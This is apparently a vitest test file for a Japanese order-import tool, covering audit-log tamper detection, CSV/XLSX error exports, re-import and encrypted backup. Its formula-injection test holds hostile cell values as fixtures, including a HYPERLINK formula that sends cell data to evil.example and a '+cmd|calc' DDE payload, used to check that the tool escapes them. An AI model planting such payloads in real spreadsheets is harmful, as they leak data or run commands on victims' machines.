import { join } from 'node:path';
import * as XLSX from '@e965/xlsx';
import iconv from 'iconv-lite';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tempDirsPerTest } from '../../tests/helpers/tmp';
import { appendAudit, entryHash, verifyAudit } from '../audit/log';
import { reimportIntoBatch } from '../import/reimport';
import { SAMPLE_HEADERS, type SampleRow, sampleLine, textBytes, workbookBytes } from '../../scripts/fixtures/sample-sheets';
import { importFile } from '../import/stage';
import { createI18n } from '../shared/i18n';
import { backupStore, restoreStore } from '../store/backup';
import { openStore, type Store } from '../store/database';
import { generateKey, type StoreKey } from '../store/key';
import { listOrders } from '../store/orders';
import { neutralise } from './cells';
import { errorTable, renderTable, successTable } from './export';

const tempDir = tempDirsPerTest();
let store: Store;
let key: StoreKey;
let dir: string;
beforeEach(() => {
  dir = tempDir();
  key = generateKey();
  store = openStore({ path: join(dir, 'store.db'), key });
});
afterEach(() => store.close());
const ja = createI18n('ja').t;
const en = createI18n('en').t;

const H = SAMPLE_HEADERS;
const line = (ref: string, overrides: Record<string, string | number | null> = {}) =>
  sampleLine(ref, { メール: 'yamada@example.co.jp', ...overrides });

function markSynced(orderRef: string, updatedAt: string) {
  const order = store.db.prepare('SELECT id FROM orders WHERE order_ref = ?').get(orderRef) as { id: number };
  store.db
    .prepare(
      `INSERT INTO sync_state (order_id, state, idempotency_key, backend_order_id, payment_id, transaction_id, updated_at)
       VALUES (?, 'done', ?, ?, ?, ?, ?)`,
    )
    .run(
      order.id,
      `k-${orderRef}`,
      `ord-${orderRef}`,
      `pay-${orderRef}`,
      `00000000-0000-4000-8000-${String(order.id).padStart(12, '0')}`,
      updatedAt,
    );
}

describe('audit chain', () => {
  function tamper(sql: string) {
    store.db.exec('DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete;');
    store.db.exec(sql);
  }
  beforeEach(() => {
    for (let i = 1; i <= 5; i += 1)
      appendAudit(store.db, { actor: 'sato', action: 'order.edited', batchId: 1, orderRef: `A-${i}`, details: { n: i } });
  });

  it('verifies an intact chain', () => {
    expect(verifyAudit(store.db)).toMatchObject({ ok: true, entries: 5, firstBroken: null });
  });

  it('detects an edited entry', () => {
    tamper(`UPDATE audit_log SET actor = 'suzuki' WHERE seq = 3`);
    expect(verifyAudit(store.db).firstBroken).toEqual({ seq: 3, reason: 'hash_mismatch' });
  });

  it('detects an edit that also rewrites the hash', () => {
    store.db.exec('DROP TRIGGER audit_log_no_update');
    const row = store.db.prepare('SELECT * FROM audit_log WHERE seq = 2').get() as Record<string, string | number>;
    const forged = entryHash({
      seq: 2,
      at: String(row.at),
      actor: 'suzuki',
      backendIdentity: null,
      action: String(row.action),
      batchId: 1,
      orderRef: 'A-2',
      details: String(row.details),
      prevHash: String(row.prev_hash),
    });
    store.db.prepare("UPDATE audit_log SET actor = 'suzuki', hash = ? WHERE seq = 2").run(forged);
    expect(verifyAudit(store.db).firstBroken).toEqual({ seq: 3, reason: 'broken_link' });
  });

  it('detects a deleted entry', () => {
    tamper('DELETE FROM audit_log WHERE seq = 2');
    expect(verifyAudit(store.db).firstBroken).toEqual({ seq: 3, reason: 'sequence_gap' });
  });

  it('detects re-ordered entries', () => {
    tamper(
      `UPDATE audit_log SET seq = seq + 100 WHERE seq IN (2, 3); UPDATE audit_log SET seq = 3 WHERE seq = 102; UPDATE audit_log SET seq = 2 WHERE seq = 103;`,
    );
    const result = verifyAudit(store.db);
    expect(result.ok).toBe(false);
    expect(result.firstBroken?.seq).toBe(2);
  });
});

describe('error and success exports', () => {
  function stageMixed() {
    return importFile(store.db, {
      fileName: 'mixed.xlsx',
      bytes: workbookBytes(
        [['発注一覧'], H, line('OK-1'), line('BAD-1', { メール: 'not-mail' }), line('BAD-2', { 数量: -1 }), line('OK-2')],
        'xlsx',
      ),
      actor: 'tester',
    }).batchId;
  }

  it('export failed and invalid orders with original columns, error code, message and source row (CSV: BOM, CRLF)', () => {
    const batchId = stageMixed();
    const csv = renderTable(errorTable(store.db, batchId, ja), 'csv');
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.subarray(3).toString('utf8');
    expect(text.split('\r\n')).toHaveLength(4);
    const sheet = XLSX.read(csv, { type: 'buffer' });
    const rows = XLSX.utils.sheet_to_json<unknown[]>(sheet.Sheets[sheet.SheetNames[0] as string] as XLSX.WorkSheet, { header: 1 });
    expect(rows[0]).toEqual([...H, 'エラーコード', 'エラー内容', '元の行番号']);
    expect(rows[1]).toEqual(expect.arrayContaining(['BAD-1', 'not-mail', 'INVALID_EMAIL', 4]));
    expect(String(rows[1]?.[H.length + 1])).toMatch(/メールアドレスの形式/);
    expect(rows[2]).toEqual(expect.arrayContaining(['BAD-2', -1, 'INVALID_QUANTITY', 5]));
  });

  it('export as xlsx in English with numbers as numeric cells, and as Shift_JIS CSV', () => {
    const batchId = stageMixed();
    const book = XLSX.read(renderTable(errorTable(store.db, batchId, en), 'xlsx'), { type: 'buffer' });
    const ws = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet;
    expect(ws.L1?.v).toBe('Error code');
    expect(ws.M2?.v).toMatch(/not a valid email/);
    expect(ws.G2).toMatchObject({ t: 'n', v: 1500 });
    expect(ws.N2).toMatchObject({ t: 'n', v: 4 });
    const sjis = renderTable(errorTable(store.db, batchId, ja), 'csv', 'shift_jis');
    expect(iconv.decode(sjis, 'Shift_JIS')).toContain('エラーコード');
  });

  it('neutralises formula injection in every text cell of every format while numbers stay numeric', () => {
    expect(['=1+1', '+cmd', '-x', '@SUM(A1)', '\tx', '\rx', '\nx', 'ok', '-12', '3.5', -12, 1500].map(neutralise)).toEqual([
      "'=1+1",
      "'+cmd",
      "'-x",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "'\nx",
      'ok',
      // Text stays text even when it looks like a number: only number cells are numbers.
      "'-12",
      '3.5',
      -12,
      1500,
    ]);
    const hostile = [
      ['注文番号', '顧客ID', '顧客名', 'メール', '品番', '数量', '単価', '決済トークン', '納品先住所', '備考'],
      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 'C1', '+cmd|calc', 'bad', '@SUM(1+1)', '-2', 1000, 'tok', '-1+2', '\t=1+1'],
    ];
    const { batchId } = importFile(store.db, {
      fileName: 'hostile.csv',
      bytes: textBytes(hostile as SampleRow[], 'utf-8'),
      actor: 'tester',
    });
    for (const format of ['csv', 'xlsx'] as const) {
      const book = XLSX.read(renderTable(errorTable(store.db, batchId, ja), format), { type: 'buffer' });
      const ws = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet;
      const cells = Object.entries(ws)
        .filter(([address]) => !address.startsWith('!') && /2$/.test(address))
        .map(([, cell]) => cell as XLSX.CellObject);
      for (const cell of cells) {
        expect(cell.f, `${format} ${String(cell.v)}`).toBeUndefined();
        if (cell.t === 's') expect(String(cell.v)).not.toMatch(/^[=+\-@\t\r\n]/);
      }
      expect(ws.F2, format).toMatchObject({ t: 'n', v: -2 });
      expect(ws.A2?.v).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    }
  });

  it('report synced orders with backend order id, payment id and transaction id', () => {
    const batchId = stageMixed();
    markSynced('OK-1', new Date().toISOString());
    const book = XLSX.read(renderTable(successTable(store.db, batchId, en), 'xlsx'), { type: 'buffer' });
    const rows = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet, { header: 1 });
    expect(rows[0]).toEqual([
      'Order number',
      'Backend order id',
      'Payment id',
      'Transaction id',
      'Order total',
      'Source rows',
      'Synced at',
    ]);
    expect(rows[1]).toEqual(expect.arrayContaining(['OK-1', 'ord-OK-1', 'pay-OK-1', 3000]));
    expect(rows).toHaveLength(2);
  });
});

describe('re-import of a corrected error file', () => {
  it("updates the same batch's orders and revalidates them instead of creating duplicates", () => {
    const { batchId } = importFile(store.db, {
      fileName: 'orders.xlsx',
      bytes: workbookBytes(
        [H, line('R-1'), line('R-2', { メール: 'broken' }), line('R-3', { 数量: 0 }), line('R-3', { 品番: 'B' })],
        'xlsx',
      ),
      actor: 'tester',
    });
    const errors = renderTable(errorTable(store.db, batchId, ja), 'csv');
    const fixed = errors.toString('utf8').replace('broken', 'r2@example.co.jp').replace('"SKU-1",0,', '"SKU-1",4,');
    const result = reimportIntoBatch(store.db, { batchId, fileName: 'errors-fixed.csv', bytes: Buffer.from(fixed, 'utf8'), actor: 'sato' });
    expect(result).toMatchObject({ updated: 2, valid: 2, invalid: 0, notInBatch: [], locked: [] });
    const orders = listOrders(store.db, batchId);
    expect(orders.map((o) => [o.order_ref, o.status])).toEqual([
      ['R-1', 'valid'],
      ['R-2', 'valid'],
      ['R-3', 'valid'],
    ]);
    // The source rows are the original sheet's (kept through the error file's source-row column).
    expect(orders.find((o) => o.order_ref === 'R-3')?.items).toEqual([
      { sku: 'SKU-1', quantity: 4, unit_price: 1500, row: 4 },
      { sku: 'B', quantity: 2, unit_price: 1500, row: 5 },
    ]);
    expect(store.db.prepare('SELECT count(*) AS n FROM orders').get()).toEqual({ n: 3 });
    expect(store.db.prepare('SELECT count(*) AS n FROM batches').get()).toEqual({ n: 1 });
  });
});

describe('backup and restore', () => {
  it('copy the store encrypted with the same key, and restore it, keeping the replaced file', () => {
    importFile(store.db, { fileName: 'a.xlsx', bytes: workbookBytes([H, line('B-1')], 'xlsx'), actor: 't' });
    const backup = join(dir, 'backup.db');
    backupStore(store, backup, key);
    const { readFileSync, existsSync } = require('node:fs') as typeof import('node:fs');
    expect(readFileSync(backup).includes(Buffer.from('yamada@example.co.jp'))).toBe(false);
    expect(() => restoreStore(join(dir, 'other.db'), backup, generateKey())).toThrow(/STORE_UNREADABLE/);
    importFile(store.db, { fileName: 'b.xlsx', bytes: workbookBytes([H, line('B-2')], 'xlsx'), actor: 't' });
    store.close();
    const { previous } = restoreStore(join(dir, 'store.db'), backup, key);
    expect(previous && existsSync(previous)).toBe(true);
    store = openStore({ path: join(dir, 'store.db'), key });
    expect((store.db.prepare('SELECT order_ref FROM orders').all() as { order_ref: string }[]).map((r) => r.order_ref)).toEqual(['B-1']);
  });
});
